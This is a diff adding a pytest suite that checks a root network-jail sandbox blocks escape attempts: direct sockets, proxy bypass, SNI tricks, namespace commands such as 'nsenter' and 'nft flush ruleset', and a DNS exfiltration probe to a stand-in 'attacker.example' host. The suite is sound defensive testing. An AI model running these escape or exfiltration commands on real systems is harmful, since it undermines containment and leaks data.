@@ -1,0 +1,345 @@
+"""Strong mode (root): adversarial tests run from inside the jail. Each bypass must fail and the
+target must see nothing."""
+
+from __future__ import annotations
+
+import json
+import os
+import shlex
+import signal
+import socket
+import ssl
+import subprocess
+import sys
+import textwrap
+import threading
+import time
+from pathlib import Path
+
+import pytest
+
+from jail.platform.netns import existing_jail_ids, strong_mode_unavailable
+from tests.conftest import UPSTREAM_HOST, jail_argv, start_upstream, wait_for
+
+unavailable = strong_mode_unavailable()
+pytestmark = pytest.mark.skipif(unavailable is not None, reason=f"strong mode unavailable: {unavailable}")
+
+TEST_NAME = "jail-upstream.test"
+DENIED_NAME = "jail-denied.test"
+HOSTS_FILE = Path("/etc/hosts")
+# The child runs /usr/bin/python3: world-readable, unlike a pyenv interpreter under /root.
+PYTHON = "/usr/bin/python3" if Path("/usr/bin/python3").exists() else sys.executable
+
+
+@pytest.fixture(scope="module")
+def named_upstreams(test_ca):
+    """Origins on 127.0.0.2:80 and :443, reached by names the host maps in /etc/hosts."""
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    test_ca.issue_cert(TEST_NAME, DENIED_NAME, UPSTREAM_HOST).configure_cert(context)
+    original = HOSTS_FILE.read_text()
+    HOSTS_FILE.write_text(original + f"\n{UPSTREAM_HOST} {TEST_NAME} {DENIED_NAME}\n")
+    http = start_upstream("http", None, port=80)
+    https = start_upstream("https", context, port=443)
+    try:
+        yield http, https
+    finally:
+        HOSTS_FILE.write_text(original)
+        http.server.shutdown()
+        https.server.shutdown()
+
+
+@pytest.fixture(autouse=True)
+def _reset_named(request):
+    if "named_upstreams" in request.fixturenames:
+        for upstream in request.getfixturevalue("named_upstreams"):
+            upstream.reset()
+
+
+class Listener:
+    """TCP and UDP on every host address: a bypass that reaches the host shows up here."""
+
+    def __init__(self) -> None:
+        self.tcp = socket.create_server(("0.0.0.0", 0))
+        self.port = self.tcp.getsockname()[1]
+        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self.udp.bind(("0.0.0.0", self.port))
+        self.udp.settimeout(0.2)
+        self.tcp.settimeout(0.2)
+        self.seen: list[str] = []
+        self.running = True
+        self.thread = threading.Thread(target=self._watch, daemon=True)
+        self.thread.start()
+
+    def _watch(self) -> None:
+        while self.running:
+            for sock, kind in ((self.tcp, "tcp"), (self.udp, "udp")):
+                try:
+                    if kind == "tcp":
+                        conn, addr = sock.accept()
+                        conn.close()
+                    else:
+                        _, addr = sock.recvfrom(100)
+                    self.seen.append(f"{kind} from {addr[0]}")
+                except (TimeoutError, OSError):
+                    pass
+
+    def close(self) -> None:
+        self.running = False
+        self.thread.join()
+        self.tcp.close()
+        self.udp.close()
+
+
+@pytest.fixture
+def listener():
+    watcher = Listener()
+    yield watcher
+    watcher.close()
+
+
+def host_addresses() -> list[str]:
+    out = subprocess.run(["ip", "-4", "-o", "addr", "show"], capture_output=True, text=True).stdout
+    return [line.split()[3].split("/")[0] for line in out.splitlines() if " lo " not in line and "vh_" not in line]
+
+
+def jailed_python(run_jail, code: str, *flags: str, timeout: float = 60):
+    return run_jail(*flags, "--", PYTHON, "-c", textwrap.dedent(code), timeout=timeout)
+
+
+PROBE = """
+import socket, sys, json
+results = {}
+def tcp(host, port):
+    try:
+        s = socket.create_connection((host, port), timeout=3); s.close(); return "connected"
+    except OSError as e:
+        return type(e).__name__
+"""
+
+
+def test_direct_tcp_udp_and_other_ports_fail_fast(run_jail, listener):
+    targets = [*host_addresses(), "10.233.0.1", "192.0.2.1"]
+    code = (
+        PROBE
+        + f"""
+import time
+targets = {targets!r}
+for host in targets:
+    start = time.monotonic()
+    results[host] = (tcp(host, {listener.port}), round(time.monotonic() - start, 2))
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    try:
+        u.sendto(b"leak", (host, {listener.port}))
+    except OSError:
+        pass
+try:
+    s6 = socket.create_connection(("::1", 1), timeout=1)
+except OSError as e:
+    results["v6-loopback-closed"] = type(e).__name__
+try:
+    socket.create_connection(("2001:db8::1", 443), timeout=3)
+    results["v6"] = "connected"
+except OSError as e:
+    results["v6"] = type(e).__name__
+print(json.dumps(results))
+"""
+    )
+    result = jailed_python(run_jail, code, "--js", "true")
+    assert result.returncode == 0, result.stderr
+    results = json.loads(result.stdout)
+    for host in targets:
+        outcome, seconds = results[host]
+        assert outcome != "connected", host
+        assert seconds < 2, f"{host}: a blocked connection must fail at once, took {seconds}s"
+    assert results["v6"] != "connected"
+    time.sleep(0.5)
+    assert listener.seen == []
+
+
+def test_noproxy_client_is_intercepted_and_judged(run_jail, named_upstreams):
+    http, https = named_upstreams
+    rule = f"r.host === '{TEST_NAME}'"
+    base = ["curl", "-sS", "--noproxy", "*", "--max-time", "20", "-o", "/dev/null", "-w", "%{http_code} "]
+    for scheme, upstream in (("http", http), ("https", https)):
+        ok = run_jail("--js", rule, "--", *base, f"{scheme}://{TEST_NAME}/allowed")
+        denied = run_jail("--js", rule, "--", *base, f"{scheme}://{DENIED_NAME}/x")
+        assert ok.stdout.strip() == "200", (scheme, ok.stdout, ok.stderr)
+        assert denied.stdout.strip() == "403", (scheme, denied.stdout, denied.stderr)
+        assert [r["path"] for r in upstream.requests] == ["/allowed"]
+        assert all(r["host"] == TEST_NAME for r in upstream.requests)
+
+
+def test_tls_without_sni_is_refused_with_a_logged_reason(run_jail, named_upstreams, tmp_path):
+    _, https = named_upstreams
+    audit = tmp_path / "audit.jsonl"
+    code = """
+import socket, ssl
+s = socket.create_connection(("jail-upstream.test", 443), timeout=10)
+ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
+t = ctx.wrap_socket(s)  # no server_hostname: no SNI
+t.sendall(b"GET / HTTP/1.1\\r\\nHost: jail-upstream.test\\r\\nConnection: close\\r\\n\\r\\n")
+data = b""
+while chunk := t.recv(4096):
+    data += chunk
+print(data.decode(errors="replace"))
+"""
+    result = jailed_python(run_jail, code, "--js", "true", "--audit-log", str(audit))
+    assert " 403 " in result.stdout.splitlines()[0], result.stdout + result.stderr
+    assert "without SNI" in result.stdout
+    assert https.connections == []
+    records = [json.loads(line) for line in audit.read_text().splitlines()]
+    assert any(r.get("reason_code") == "no_sni" for r in records)
+
+
+def test_sni_allowed_but_host_header_denied_reaches_only_the_sni_host(run_jail, named_upstreams):
+    _, https = named_upstreams
+    result = run_jail(
+        "--js",
+        f"r.host === '{TEST_NAME}'",
+        "--",
+        "curl",
+        "-sS",
+        "--noproxy",
+        "*",
+        "-H",
+        f"Host: {DENIED_NAME}",
+        f"https://{TEST_NAME}/h",
+    )
+    assert json.loads(result.stdout)["host"] == TEST_NAME
+    assert [r["host"] for r in https.requests] == [TEST_NAME]
+
+
+def test_dns_is_answered_by_the_sinkhole_and_recorded(run_jail, tmp_path):
+    audit = tmp_path / "audit.jsonl"
+    code = """
+import socket, json, struct
+name = "c2VjcmV0.attacker.example"
+answer = socket.gethostbyname(name)
+# A direct query to an outside resolver must fail.
+q = struct.pack(">HHHHHH", 1, 0x100, 1, 0, 0, 0) + b"\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01"
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2)
+try:
+    u.sendto(q, ("8.8.8.8", 53)); u.recvfrom(512); outside = "answered"
+except OSError as e:
+    outside = type(e).__name__
+print(json.dumps({"answer": answer, "outside": outside, "resolv": open("/etc/resolv.conf").read()}))
+"""
+    result = jailed_python(run_jail, code, "--js", "true", "--audit-log", str(audit))
+    seen = json.loads(result.stdout)
+    nameserver = seen["resolv"].split()[1]
+    assert seen["answer"] == nameserver, "every name resolves to the sinkhole, jail's host-side address"
+    assert seen["outside"] != "answered"
+    queries = [json.loads(line) for line in audit.read_text().splitlines()]
+    assert any(q.get("kind") == "dns" and q["name"] == "c2VjcmV0.attacker.example" for q in queries)
+
+
+@pytest.mark.parametrize(
+    "attempt",
+    [
+        "nft flush ruleset",
+        "ip link set lo down",
+        "ip route add 192.0.2.0/24 dev lo",
+        "unshare -n true",
+        "nsenter --net=/proc/1/ns/net true",
+        "ip netns exec x true",
+    ],
+)
+def test_root_child_cannot_change_or_leave_its_network(run_jail, attempt, listener):
+    host = host_addresses()[0]
+    script = f"{attempt}; echo status=$?; {PYTHON} -c \"import socket; socket.create_connection(('{host}', {listener.port}), timeout=2)\" 2>/dev/null; echo after=$?"
+    result = run_jail("--js", "true", "--", "sh", "-c", script)
+    assert "status=0" not in result.stdout, result.stdout + result.stderr
+    assert "after=0" not in result.stdout
+    assert listener.seen == []
+
+
+def test_child_has_no_capabilities_and_no_new_privs(run_jail):
+    result = run_jail("--js", "true", "--", "sh", "-c", "grep -E '^(CapEff|CapBnd|NoNewPrivs)' /proc/self/status")
+    fields = dict(line.split(":\t") for line in result.stdout.splitlines())
+    assert int(fields["CapEff"], 16) == 0 and int(fields["CapBnd"], 16) == 0
+    assert fields["NoNewPrivs"].strip() == "1"
+
+
+def test_child_runs_as_the_sudo_user(run_jail, jail_env):
+    result = run_jail("--js", "true", "--", "id", "-u", env={**jail_env, "SUDO_UID": "65534", "SUDO_GID": "65534"})
+    assert result.stdout.strip() == "65534"
+
+
+def resources() -> set[str]:
+    return existing_jail_ids()
+
+
+def test_nothing_is_left_after_a_normal_run_and_after_ctrl_c(run_jail, jail_env):
+    before = resources()
+    assert run_jail("--js", "true", "--", "true").returncode == 0
+    assert resources() == before
+    process = subprocess.Popen(
+        jail_argv("--js", "true", "--", "sh", "-c", "echo ready; sleep 60"),
+        env=jail_env,
+        stdout=subprocess.PIPE,
+        text=True,
+    )
+    assert process.stdout.readline().strip() == "ready"
+    process.send_signal(signal.SIGINT)
+    process.wait(20)
+    assert resources() == before
+
+
+def test_sigkilled_jail_is_cleaned_by_cleanup_without_touching_a_running_one(run_jail, jail_env):
+    before = resources()
+    survivor = subprocess.Popen(
+        jail_argv("--js", "true", "--", "sh", "-c", "echo ready; sleep 60"),
+        env=jail_env,
+        stdout=subprocess.PIPE,
+        text=True,
+    )
+    victim = subprocess.Popen(
+        jail_argv("--js", "true", "--", "sh", "-c", "echo ready; sleep 60"),
+        env=jail_env,
+        stdout=subprocess.PIPE,
+        text=True,
+    )
+    try:
+        assert survivor.stdout.readline().strip() == "ready"
+        assert victim.stdout.readline().strip() == "ready"
+        running = resources() - before
+        assert len(running) == 2
+        victim.kill()
+        victim.wait()
+        assert len(resources() - before) == 2, "a SIGKILLed jail leaves its resources until cleanup"
+        cleanup = run_jail("--cleanup")
+        assert cleanup.returncode == 0 and "removed 1" in cleanup.stdout
+        assert len(resources() - before) == 1, "the running jail must be left alone"
+        assert survivor.poll() is None
+    finally:
+        survivor.terminate()
+        survivor.wait(20)
+        subprocess.run(["pkill", "-f", "sleep 60"], check=False)
+    assert wait_for(lambda: resources() == before, timeout=10)
+
+
+def test_two_concurrent_jails_keep_their_own_rules(jail_env, named_upstreams):
+    base = ["curl", "-s", "--noproxy", "*", "-o", "/dev/null", "-w", "%{http_code}"]
+    loop = f"for i in 1 2 3 4 5; do {shlex.join(base)} http://{TEST_NAME}/$i; echo; done"
+    allow = subprocess.Popen(
+        jail_argv("--js", "true", "--", "sh", "-c", loop), env=jail_env, stdout=subprocess.PIPE, text=True
+    )
+    deny = subprocess.Popen(
+        jail_argv("--js", "false", "--", "sh", "-c", loop), env=jail_env, stdout=subprocess.PIPE, text=True
+    )
+    allowed, _ = allow.communicate(timeout=60)
+    denied, _ = deny.communicate(timeout=60)
+    assert allowed.split() == ["200"] * 5
+    assert denied.split() == ["403"] * 5
+
+
+def test_exit_code_and_signals_propagate(run_jail):
+    assert run_jail("--js", "true", "--", "sh", "-c", "exit 9").returncode == 9
+    assert run_jail("--js", "true", "--", "sh", "-c", "kill -KILL $$").returncode == 137
+
+
+def test_weak_flag_forces_weak_mode(run_jail):
+    result = run_jail(
+        "--weak", "--js", "true", "--", "sh", "-c", "test -e /proc/self/ns/net && readlink /proc/self/ns/net"
+    )
+    assert result.stdout.strip() == os.readlink("/proc/self/ns/net")
